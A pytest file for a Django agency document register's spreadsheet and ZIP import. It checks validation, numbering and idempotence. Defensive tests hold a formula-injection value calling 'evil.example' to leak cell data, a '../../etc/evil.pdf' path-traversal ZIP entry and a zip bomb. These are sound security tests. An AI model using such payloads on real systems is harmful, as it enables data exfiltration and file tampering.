"""Import of register rows (issues 15, 18): the dry run's row-by-row report, the import keeping the old
numbers and dates in the register of their year, idempotence, numbering continuing after the imported
numbers, the files of a ZIP, and bad input (wrong date, missing field, unknown type, duplicate, another
agency's rows, formula text, NUL, wrong file type, a 60 MB sheet)."""

from __future__ import annotations

import csv
import io
import tempfile

import pytest
from django.db import transaction
from django.utils import timezone

from qlvb.core.audit import AuditEntry
from qlvb.core.errors import PermissionDenied, ValidationFailed
from qlvb.directory.models import Unit
from qlvb.documents.models import Direction, Document, DocumentEvent, Register
from qlvb.documents.numbering import register_for, register_take_number
from qlvb.files.tests.samples import pdf_bytes, xls_bytes
from qlvb.files.zipguard import ZipRefused
from qlvb.operations.register_import import register_import_check, register_import_run
from qlvb.operations.register_import_models import ImportedRow, ImportState, RegisterImport
from qlvb.operations.register_import_sheet import TEMPLATE_HEADERS
from qlvb.outgoing import numbering
from qlvb.outgoing.models import Outgoing

from .register_import_data import csv_bytes, incoming_row, outgoing_row, xlsx, zip_of

pytestmark = pytest.mark.django_db


@pytest.fixture
def clerk(person):
    return person("lethuha")


@pytest.fixture
def ubnd(clerk) -> Unit:
    return clerk.unit.agency


def check(clerk, ubnd, sheet, **kw):
    return register_import_check(actor=clerk, agency=ubnd, sheet=sheet, name=kw.pop("name", "so-den.xlsx"), **kw)


def run(clerk, ubnd, sheet, **kw):
    return register_import_run(actor=clerk, agency=ubnd, sheet=sheet, name=kw.pop("name", "so-den.xlsx"), **kw)


def reasons(report) -> dict[int, str]:
    return {r.row: r.text for r in report.rows if r.status == "error"}


def test_the_dry_run_reports_each_row_and_writes_no_document(clerk, ubnd):
    sheet = xlsx(
        [
            incoming_row(1),
            incoming_row(2, day="31/02/2025"),
            incoming_row(3, organ_name=""),
            incoming_row(4, type_subject="Thư mời họp: họp giao ban"),
            incoming_row(1, subject="Một văn bản khác"),
            incoming_row(5, arrival_number="năm"),
        ]
    )
    report = check(clerk, ubnd, sheet)
    assert report.direction == Direction.INCOMING
    assert (report.total, report.ok, report.errors) == (6, 1, 5)
    why = reasons(report)
    # rows: title (1), blank (2), header (3), data from 4
    assert "“Ngày đến” “31/02/2025” không phải ngày hợp lệ (ghi theo dạng dd/mm/yyyy)" in why[5]
    assert why[6] == "thiếu “Tác giả” (cơ quan ban hành)"
    assert "không rõ loại văn bản" in why[7]
    assert why[8] == "trùng số đến 1 năm 2025 với dòng 4 của tệp"
    assert "phải là số nguyên dương" in why[9]
    assert not report.can_import
    assert not Document.objects.filter(agency=ubnd, direction=Direction.INCOMING).exists()
    batch = RegisterImport.objects.get(pk=report.batch_id)
    assert (batch.state, batch.rows_error) == (ImportState.FAILED, 5)
    assert AuditEntry.objects.filter(action="operations.register_import_checked").count() == 1


def test_a_file_with_an_error_imports_nothing(clerk, ubnd):
    report = run(clerk, ubnd, xlsx([incoming_row(1), incoming_row(2, day="2025-13-01")]))
    assert report.errors == 1 and report.imported == 0 and not report.done
    assert not Document.objects.filter(agency=ubnd).exists()


def test_the_import_keeps_numbers_and_dates_and_is_idempotent(clerk, ubnd):
    rows = [incoming_row(n, day=f"{n:02d}/01/2024") for n in (1, 2, 3)]
    rows.append(incoming_row(7, day="10/02/2025"))
    report = run(clerk, ubnd, xlsx(rows), batch_size=2)
    assert (report.imported, report.errors, report.done) == (4, 0, True)
    doc = Document.objects.get(agency=ubnd, arrival_number=2, year=2024)
    assert doc.arrival_date is not None and doc.register is not None
    assert doc.arrival_date.isoformat() == "2024-01-02"
    assert doc.register.year == 2024 and doc.register.direction == Direction.INCOMING
    assert (doc.doc_type.name, doc.subject) == ("Quyết định", "Về việc giao chỉ tiêu số 2")
    assert doc.number_notation == "12/QĐ-UBND" and doc.organ_name == "UBND huyện Hoài Đức"
    assert doc.imported_from.row_number == 5
    event = DocumentEvent.objects.get(document=doc, action="imported")
    assert "so-den.xlsx" in event.text and event.data["row"] == 5
    assert AuditEntry.objects.filter(action="operations.register_imported").count() == 2  # one per batch
    assert Register.objects.get(agency=ubnd, direction=Direction.INCOMING, year=2024).last_number == 3

    again = run(clerk, ubnd, xlsx(rows))
    assert (again.imported, again.skipped, again.errors) == (0, 4, 0)
    assert Document.objects.filter(agency=ubnd).count() == 4
    assert ImportedRow.objects.count() == 4


def test_numbering_continues_after_the_imported_numbers_of_this_year(clerk, ubnd):
    today = timezone.localdate()
    run(clerk, ubnd, xlsx([incoming_row(n, day=today.strftime("%d/%m/%Y")) for n in (40, 41)]))
    register = register_for(agency=ubnd, direction=Direction.INCOMING, year=today.year)
    with transaction.atomic():
        assert register_take_number(register) == 42


def test_a_number_already_in_the_register_is_a_duplicate(clerk, ubnd):
    run(clerk, ubnd, xlsx([incoming_row(1, day="02/01/2024")]))
    report = check(clerk, ubnd, xlsx([incoming_row(1, day="02/01/2024", subject="Nội dung khác")]))
    assert reasons(report)[4] == "trùng: số đến 1 năm 2024 đã có trong sổ của cơ quan"


def test_outgoing_rows_keep_their_number_and_the_series_continues(clerk, ubnd):
    today = timezone.localdate()
    rows = [outgoing_row(n, day=today.strftime("%d/%m/%Y")) for n in (1, 2, 15)]
    report = run(clerk, ubnd, xlsx(rows, direction=Direction.OUTGOING), name="so-di.xlsx")
    assert report.direction == Direction.OUTGOING and report.imported == 3, report.rows
    out = Outgoing.objects.select_related("document").get(document__agency=ubnd, number=15)
    assert out.state == "issued" and out.copy_count == 2 and out.year == today.year
    assert out.document.number_notation == "15/UBND-VP"
    assert (out.document.signer_name, out.document.signer_position) == ("Nguyễn Văn An", "KT. CHỦ TỊCH PHÓ CHỦ TỊCH")
    assert out.document.doc_type.name == "Công văn"
    assert out.series is not None
    with transaction.atomic():
        assert numbering.number_take(out.series, today.year) == 16
    again = check(clerk, ubnd, xlsx(rows, direction=Direction.OUTGOING), name="so-di.xlsx")
    assert again.skipped == 3 and again.ok == 0


def test_a_csv_in_utf8_with_semicolons_reads_like_the_sheet(clerk, ubnd):
    report = run(clerk, ubnd, csv_bytes([incoming_row(1), incoming_row(2)]), name="so-den.csv")
    assert report.imported == 2, report.rows


def test_a_formula_is_stored_as_text_never_evaluated(clerk, ubnd):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")'
    report = run(clerk, ubnd, xlsx([incoming_row(1, organ_name=formula, note="@SUM(1+1)")]))
    assert report.imported == 1, report.rows
    doc = Document.objects.get(agency=ubnd)
    assert doc.organ_name == formula and doc.description == "@SUM(1+1)"


def test_rows_of_another_agency_are_refused(clerk, ubnd):
    other = Unit.objects.exclude(agency=ubnd).filter(external=False, kind="agency").first()
    assert other is not None
    report = check(clerk, ubnd, xlsx([incoming_row(1, to_places=other.name)]))
    assert f"là đơn vị của cơ quan khác ({other.name})" in reasons(report)[4]


def test_a_clerk_of_another_agency_or_an_officer_may_not_import(person, ubnd):
    for who in ("tytlienminh_buithiloan", "dothanhhuong"):
        with pytest.raises(PermissionDenied):
            check(person(who), ubnd, xlsx([incoming_row(1)]))


@pytest.mark.parametrize(
    ("data", "name", "said"),
    [
        (xls_bytes(), "so-den.xls", "Excel cũ (.xls)"),
        (pdf_bytes(), "so-den.xlsx", "không phải bảng tính XLSX hay CSV"),
        (b"Ngay den;So den\x00;Tac gia\r\n", "so-den.csv", "NUL"),
        (b"", "so-den.csv", "rỗng"),
        ("Ngày đến;Số đến\r\n".encode("cp1258", errors="replace") + b"\xff\xfe\x81", "so-den.csv", "UTF-8"),
    ],
)
def test_a_file_that_is_no_register_is_refused_with_a_reason(clerk, ubnd, data, name, said):
    with pytest.raises(ValidationFailed) as refused:
        check(clerk, ubnd, io.BytesIO(data), name=name)
    assert said in refused.value.message


def test_a_sheet_without_the_columns_says_which_ones_are_needed(clerk, ubnd):
    with pytest.raises(ValidationFailed) as refused:
        check(clerk, ubnd, csv_bytes([]).__class__(b"a;b;c\r\n1;2;3\r\n"), name="x.csv")
    assert "Không tìm thấy dòng tiêu đề cột" in refused.value.message


def test_a_60_mb_sheet_is_refused_before_it_is_read(clerk, ubnd):
    with tempfile.TemporaryFile() as fh:
        fh.write(b"PK\x03\x04")
        fh.truncate(60 * 1024 * 1024)  # sparse: nothing written but the head
        with pytest.raises(ValidationFailed) as refused:
            check(clerk, ubnd, fh)
    assert "quá giới hạn 50 MB" in refused.value.message


def test_files_come_from_the_zip_beside_the_sheet(clerk, ubnd):
    archive = zip_of({"van-ban/qd-15.pdf": pdf_bytes(), "phu-luc.pdf": pdf_bytes()})
    rows = [incoming_row(1, files="qd-15.pdf; phu-luc.pdf"), incoming_row(2, files="khong-co.pdf")]
    report = check(clerk, ubnd, xlsx(rows), archive=archive, archive_name="tep.zip")
    assert reasons(report) == {5: "không có tệp “khong-co.pdf” trong tệp ZIP"}
    report = run(clerk, ubnd, xlsx(rows[:1]), archive=archive, archive_name="tep.zip")
    assert report.imported == 1, report.rows
    doc = Document.objects.get(agency=ubnd)
    assert sorted(a.kind for a in doc.attachments.all()) == ["appendix", "main"]


def test_a_zip_with_a_path_out_of_its_folder_is_refused(clerk, ubnd):
    archive = zip_of({"../../etc/evil.pdf": pdf_bytes()})
    with pytest.raises(ZipRefused) as refused:
        check(clerk, ubnd, xlsx([incoming_row(1)]), archive=archive, archive_name="tep.zip")
    assert "..”" in refused.value.message


def test_a_row_naming_a_file_without_a_zip_is_refused(clerk, ubnd):
    report = check(clerk, ubnd, xlsx([incoming_row(1, files="qd.pdf")]))
    assert reasons(report)[4] == "có tên tệp đính kèm nhưng không có tệp ZIP kèm theo"


def test_a_zip_bomb_beside_the_sheet_is_refused(clerk, ubnd):
    archive = zip_of({"van-ban.pdf": b"\x00" * (20 * 1024 * 1024)})  # 20 MB of zeros: ~1000 times compressed
    with pytest.raises(ZipRefused) as refused:
        check(clerk, ubnd, xlsx([incoming_row(1)]), archive=archive, archive_name="tep.zip")
    assert "zip bomb" in refused.value.message


def test_a_long_csv_is_read_across_its_chunks_with_commas_and_quoted_lines(clerk, ubnd):
    rows = [incoming_row(n, subject=f"Về việc số {n}, có dấu phẩy") for n in range(1, 1601)]
    rows[700][9] = "Ghi chú\nhai dòng"  # a quoted cell with a line break, far past the first 64 KiB chunk
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(TEMPLATE_HEADERS[Direction.INCOMING])
    writer.writerows(rows)
    assert len(out.getvalue()) > 2 * 64 * 1024
    report = check(clerk, ubnd, io.BytesIO(("\ufeff" + out.getvalue()).encode()), name="so.csv")
    assert (report.total, report.ok, report.errors) == (1600, 1600, 0), reasons(report)
